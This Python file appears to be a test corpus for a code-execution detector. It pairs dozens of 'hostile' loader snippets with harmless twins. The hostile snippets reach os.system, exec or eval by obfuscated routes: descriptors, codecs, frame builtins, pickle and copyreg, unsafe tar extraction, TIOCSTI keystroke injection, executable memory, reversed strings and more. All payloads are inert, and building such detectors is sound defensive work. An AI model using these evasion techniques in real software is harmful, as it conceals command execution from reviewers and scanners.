"""A second set of loaders, each by a road of its own, and honest source that uses the same road. Nothing is ever run.

They were written at once, before any of them was tried; `docs/source-code.md` says how many were found then.
"""

from __future__ import annotations

_TEXT = r"""
a descriptor
import os
class D:
    def __get__(self, o, t): return os.system
class A:
    run = D()
A().run('echo inert')
---
class D:
    def __get__(self, o, t): return 3
class A:
    run = D()
A().run
###
a metaclass that is called
import subprocess
class M(type):
    def __call__(cls, *a): return subprocess.getoutput(a[0])
class A(metaclass=M): ...
A('echo inert')
---
class M(type):
    def __call__(cls, *a): return super().__call__()
class A(metaclass=M): ...
A()
###
an index of a class
class A:
    def __class_getitem__(cls, name):
        return __import__(name)
A['os'].system('echo inert')
---
class A:
    def __class_getitem__(cls, name):
        return cls
A[int]
###
the name of an attribute
class D:
    def __set_name__(self, owner, name):
        getattr(__import__(owner.__name__), name)('echo inert')
class os:
    system = D()
---
class D:
    def __set_name__(self, owner, name):
        self.name = name
class A:
    x = D()
###
a child class
class P:
    def __init_subclass__(cls, run=None, **kw):
        eval(run)
class A(P, run="__import__('os').getcwd()"): ...
---
class P:
    registry = {}
    def __init_subclass__(cls, name=None, **kw):
        cls.registry[name] = cls
class A(P, name='a'): ...
###
types of annotations
import typing
def f(x: "__import__('os').system('echo inert')"): ...
typing.get_type_hints(f)
---
import typing
def f(x: "typing.Optional[int]"): ...
typing.get_type_hints(f)
###
the default of a field
import dataclasses, os, functools
@dataclasses.dataclass
class A:
    x: int = dataclasses.field(default_factory=functools.partial(os.system, 'echo inert'))
A()
---
import dataclasses
@dataclasses.dataclass
class A:
    x: list = dataclasses.field(default_factory=list)
A()
###
a function for each type
import functools, os
@functools.singledispatch
def f(x): ...
f.register(str, os.system)
f('echo inert')
---
import functools
@functools.singledispatch
def f(x): ...
f.register(str, len)
f('a')
###
a codec
import codecs, os
codecs.register(lambda n: os.system(n))
''.encode('echo_inert')
---
import codecs
codecs.lookup('utf-8')
''.encode('utf-8')
###
all objects
import gc
[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'system'][0]('echo inert')
---
import gc
gc.collect()
###
names of a frame
import sys
sys._getframe().f_builtins['ex' + 'ec']('1')
---
import sys
x = sys._getframe().f_code.co_name
###
frames of a traceback
try:
    1 / 0
except ZeroDivisionError as e:
    e.__traceback__.tb_frame.f_globals['__builtins__'].eval('1')
---
try:
    1 / 0
except ZeroDivisionError as e:
    x = e.__traceback__.tb_lineno
###
frames of a generator
def g(): yield
x = g()
x.gi_frame.f_builtins['eval']('1')
---
def g(): yield
x = g()
next(x)
###
the interface of Python in C
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b'1')
---
import ctypes
x = ctypes.c_int(3).value
###
marshal and a function
import marshal, types
types.FunctionType(marshal.loads(open('w.bin', 'rb').read()), globals())()
---
import json
json.loads(open('w.json', 'rb').read())
###
modules in a zip
import zipimport
zipimport.zipimporter('weights.zip').load_module('net')
---
import zipfile
zipfile.ZipFile('weights.zip').namelist()
###
a module as a program
import runpy
runpy.run_module('net')
---
import pkgutil
pkgutil.extend_path([], 'net')
###
a console
import code
code.interact(local={}, readfunc=lambda p: open('w.txt').readline())
---
code = 3
print(code)
###
measuring time
import timeit
timeit.timeit(open('w.txt').read())
---
import time
time.perf_counter()
###
examples in documentation
import doctest
doctest.run_docstring_examples(open('w.txt').read(), globals())
---
def f():
    '''
    >>> f()
    3
    '''
    return 3
###
a debugger
import pdb
pdb.runeval(open('w.txt').read())
---
import traceback
traceback.print_exc()
###
a profiler
import cProfile
cProfile.Profile().run(open('w.txt').read())
---
import cProfile
with cProfile.Profile() as p:
    sum([1])
###
settings of logging
import logging.config
logging.config.dictConfig({'version': 1, 'handlers': {'x': {'()': 'os.system', 'command': 'echo inert'}}})
---
import logging.config
logging.config.dictConfig({'version': 1, 'handlers': {'x': {'class': 'logging.StreamHandler'}}})
###
a mock
from unittest import mock
mock._importer('os').popen('echo inert')
---
x = {'mock': 3}
###
finding by documentation
import pydoc
pydoc.locate('subprocess.getoutput')('echo inert')
---
import pydoc
pydoc.getdoc(len)
###
finding by name
import pkgutil
f = pkgutil.resolve_name
f('subprocess:run')(['echo', 'inert'])
---
import pkgutil
pkgutil.iter_modules()
###
chains of operator
import operator
operator.attrgetter('loader.load_module')(__spec__)('os').system('echo inert')
---
import operator
operator.attrgetter('a.b')(x)
###
methods by operator
import operator, builtins
operator.methodcaller('exec', '1')(builtins)
---
import operator
operator.methodcaller('lower')('A')
###
a format that leaks
class A:
    def __init__(self): ...
x = '{0.__init__.__globals__[SECRET]}'.format(A())
---
x = '{0.real} {1.__class__.__name__}'.format(3, 4)
###
a formatter that leaks
import string
x = string.Formatter().get_field('0.__init__.__globals__', [object], {})
---
import string
x = string.Formatter().format('{0}', 3)
###
literals that are none
import ast
exec(compile(ast.parse(open('w.txt').read()), 'w', 'exec'))
---
import ast
x = ast.literal_eval(open('w.txt').read())
###
compilers of numpy
import numpy.f2py
numpy.f2py.compile(open('w.f').read())
---
import numpy
numpy.fft.fft([1])
###
tests of numpy
import numpy.testing as t
t.runstring(open('w.txt').read(), {})
---
import numpy.testing as t
t.assert_allclose(1, 1)
###
extensions that are built
import torch.utils.cpp_extension
torch.utils.cpp_extension.load_inline('x', open('w.cpp').read())
---
import torch.utils.checkpoint
torch.utils.checkpoint.checkpoint(len, [])
###
classes of torch
import torch
torch.classes.load_library('w.so')
---
import torch
torch.jit.script(len)
###
modules of a hub
from transformers.dynamic_module_utils import get_class_from_dynamic_module as g
g('net.Net', 'org/name')()
---
from transformers import AutoConfig
AutoConfig.for_model('bert')
###
a notebook's shell
from IPython import get_ipython
get_ipython().run_line_magic('sx', 'echo inert')
---
from IPython.display import display
display(3)
###
an extension of sqlite
import sqlite3
with sqlite3.connect(':memory:') as c:
    c.load_extension('w.so')
---
import sqlite3
with sqlite3.connect(':memory:') as c:
    c.execute('select 1')
###
an archive that goes anywhere
import tarfile
with tarfile.open('w.tar') as t:
    t.extractall('.')
---
import tarfile
with tarfile.open('w.tar') as t:
    t.extractall('.', filter='data')
###
an archive of any kind
import shutil
shutil.unpack_archive('w.tgz', '/')
---
import shutil
shutil.make_archive('w', 'zip')
###
pip by its modules
import pip._internal as p
getattr(p, 'main')(['install', 'x'])
---
import importlib.metadata
importlib.metadata.version('pip')
###
an environment
import venv
venv.EnvBuilder(with_pip=True).create('/tmp/x')
---
import sysconfig
sysconfig.get_paths()
###
a folder of modules
import site
site.addsitedir('/tmp/x')
---
import site
site.getsitepackages()
###
a line that is typed
import readline, os
readline.set_startup_hook(lambda: os.system('echo inert'))
---
import readline
readline.parse_and_bind('tab: complete')
###
a browser
import webbrowser
webbrowser.get('sh -c %s').open('echo inert')
---
browser = 'x'
browser.title()
###
a process by spawning
import multiprocessing, os
multiprocessing.get_context('spawn').Process(target=os.system, args=('echo inert',)).start()
---
import multiprocessing
multiprocessing.cpu_count()
###
another Python for children
import multiprocessing
multiprocessing.set_executable('/tmp/x')
---
import multiprocessing
multiprocessing.set_start_method('spawn')
###
a process of a loop
import asyncio
async def f():
    p = await asyncio.create_subprocess_exec('echo', 'inert')
asyncio.run(f())
---
import asyncio
async def f():
    await asyncio.sleep(0)
asyncio.run(f())
###
a process by POSIX
import os
os.posix_spawn('/bin/echo', ['echo', 'inert'], {})
---
import os
os.posix_fadvise
###
another program in its place
import os
os.execve('/bin/echo', ['echo', 'inert'], {})
---
import os
os.access('/bin/echo', os.X_OK)
###
a terminal
from pty import spawn as s
s('/bin/echo')
---
import tty
tty
###
keys that are typed for the user
import fcntl, termios
for c in 'echo inert\n':
    fcntl.ioctl(0, termios.TIOCSTI, c)
---
import fcntl, termios
fcntl.ioctl(0, termios.TIOCGWINSZ, b'1234')
###
memory that is run
import mmap, ctypes
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(open('w.bin', 'rb').read())
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
---
import mmap
m = mmap.mmap(-1, 4096)
m.write(b'x')
###
an entry point
from importlib.metadata import EntryPoint
EntryPoint('x', 'os:system', 'g').load()('echo inert')
---
from importlib.metadata import entry_points
list(entry_points(group='x'))
###
a plug-in of a template
import jinja2
jinja2.Environment().from_string(open('w.txt').read()).render(f=__builtins__)
---
import jinja2
jinja2.Environment
###
a hidden parameter
import os
def f(x, *, _r=os.popen): return _r(x)
f('echo inert')
---
def f(x, *, _r=len): return _r(x)
f('a')
###
a match statement
import os
match {'k': os.system}:
    case {'k': run}: run('echo inert')
---
match {'k': len}:
    case {'k': run}: run('a')
###
a context that leaves
import os
class C:
    def __enter__(self): return self
    def __exit__(self, *a): os.system('echo inert')
with C(): ...
---
class C:
    def __enter__(self): return self
    def __exit__(self, *a): return None
with C(): ...
###
an operator that is overloaded
import os
class C:
    def __matmul__(self, o): return os.system(o)
C() @ 'echo inert'
---
class C:
    def __matmul__(self, o): return o
C() @ 3
###
an iterator
import os
class C:
    def __iter__(self): return iter(os.popen('echo inert'))
[*C()]
---
class C:
    def __iter__(self): return iter([1])
[*C()]
###
a pickle that copies
import copyreg, os
copyreg.pickle(type(os), lambda m: (os.system, ('echo inert',)))
---
import copyreg
copyreg.pickle(complex, lambda c: (complex, (c.real, c.imag)))
###
a loader of torch's packages
import torch.package as p
p.PackageImporter('w.pt').import_module('net')
---
import torch.profiler as p
p.profile()
###
a shelf
import dbm, pickle
with dbm.open('w') as d:
    pickle.loads(d['net'])
---
import dbm
with dbm.open('w') as d:
    d['net']
###
a manager that listens
from multiprocessing.managers import BaseManager
BaseManager(('', 5000), b'x').get_server().serve_forever()
---
from multiprocessing import Lock
Lock()
###
a query of names
import socket, os
socket.getaddrinfo(os.uname().nodename + '.example.invalid', 80)
---
import socket
socket.getaddrinfo('localhost', 80)
###
a worker of a queue
import queue, os
q = queue.Queue()
q.put(os.system)
q.get()('echo inert')
---
import queue
q = queue.Queue()
q.put(len)
q.get()('a')
###
a class made of text
exec('class A:\n    import os\n    x = os.system("echo inert")')
---
A = type('A', (), {'x': 3})
###
attributes of a module by name
import importlib
vars(importlib.import_module('os'))['sys' + 'tem']('echo inert')
---
import importlib
vars(importlib.import_module('math'))['pi']
###
a module that is made
import types
m = types.ModuleType('m')
exec(open('w.txt').read(), m.__dict__)
---
import types
m = types.ModuleType('m')
m.x = 3
###
a loader that is made
import importlib.machinery as k
k.SourceFileLoader('net', 'w.bin').load_module()
---
import importlib.machinery as k
k.SOURCE_SUFFIXES
###
a string that is reversed
x = ")'treni ohce'(metsys.)'so'(__tropmi__"[::-1]
eval(x)
---
x = 'abc'[::-1]
print(x)
"""

_LATER = r"""
contextlib exit
import contextlib, os
with contextlib.ExitStack() as s:
    s.callback(os.system, 'echo inert')
###
reduce over attributes
import functools
functools.reduce(getattr, ['system'], __import__('os'))('echo inert')
###
property
import subprocess
class A:
    x = property(lambda s: subprocess.run(['echo']))
A().x
###
warnings hook
import warnings, os
warnings.showwarning = lambda *a: os.system('echo inert')
warnings.warn('x')
###
logging filter
import logging, os
logging.getLogger().addFilter(lambda r: os.system('echo inert'))
###
excepthook
import sys, os
sys.excepthook = lambda *a: os.system('echo inert')
1/0
###
a variable for later
import os
os.environ['PYTHONSTARTUP'] = '/tmp/x.py'
###
torch hook
import torch, os
torch.nn.Linear(1,1).register_forward_hook(lambda *a: os.system('echo inert'))
###
unpickle via numpy bytes
import numpy as np, io
np.lib.format.read_array(io.BytesIO(open('w.bin','rb').read()), allow_pickle=True)
###
torch storage
import torch
torch.storage._load_from_bytes(open('w.bin','rb').read())
###
import by importlib meta
import importlib._bootstrap as b
b._gcd_import('os').system('echo inert')
###
builtins loader
import sys
sys.meta_path[0].find_spec('os').loader.load_module('os').system('echo inert')
###
spec loader
__spec__.loader.get_data('w.py')
exec(__loader__.get_data('w.py'))
###
generator throw
import os
def g():
    try: yield
    except Exception: os.system('echo inert')
x=g(); next(x); x.throw(Exception)
###
class dict
import os
vars(type('A',(),dict(f=os.system)))['f']('echo inert')
###
walrus
if (s := __import__('os').system): s('echo inert')
###
try import alias
try:
    import nothing
except ImportError:
    import os as nothing
nothing.system('echo inert')
###
nested getattr on module attribute
import shutil
getattr(shutil.os, 'po' + 'pen')('echo inert')
###
pathlib os
import pathlib
pathlib.os.system('echo inert')
###
random seed string
import random
random._os.system('echo inert')
###
tempfile os
import tempfile as t
t._os.popen('echo inert')
###
setattr then call
class A: ...
setattr(A, 'go', __import__('os').system)
A.go('echo inert')
###
string translate
t = str.maketrans('abc', 'osx')
m = __import__('ab'.translate(t))
m.system('echo inert')
###
int to bytes
n = (28531).to_bytes(2, 'big').decode()
__import__(n).system('echo inert')
###
hub file exec
from huggingface_hub import hf_hub_download
exec(open(hf_hub_download('a/b', 'c.py')).read())
###
json eval
import json
for k, v in json.load(open('config.json')).items():
    exec(f'{k} = {v}')
###
torch compile backend
import torch._dynamo, os
torch._dynamo.register_backend(lambda g, x: os.system('echo inert'))
###
ast exec
import ast
exec(compile(ast.Module([ast.Expr(ast.Constant(1))], []), '', 'exec'))
###
socket via ssl
import ssl
ssl.socket.create_connection(('192.0.2.1', 1))
###
urllib alias through requests
import requests
requests.utils.os.system('echo inert')
"""


def _cases() -> dict[str, tuple[str, str]]:
    found = {}
    for case in _TEXT.strip("\n").split("\n###\n"):
        name, _, rest = case.partition("\n")
        hostile, _, honest = rest.partition("\n---\n")
        found[name] = (hostile + "\n", honest + "\n")
    return found


TRICKS = _cases()
"""Name → hostile source, honest twin."""
LATER = dict(case.split("\n", 1) for case in _LATER.strip("\n").split("\n###\n"))
"""A third set, written when all of the second were found: name → hostile source."""
